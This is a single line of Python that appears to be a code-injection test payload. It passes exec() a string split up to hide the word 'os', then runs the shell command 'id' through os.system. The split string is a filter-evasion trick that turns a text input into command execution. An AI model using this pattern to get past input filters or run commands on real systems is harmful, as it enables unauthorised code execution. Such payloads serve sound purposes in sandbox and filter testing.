exec("import o" + "s; o" + "s.system('id')")
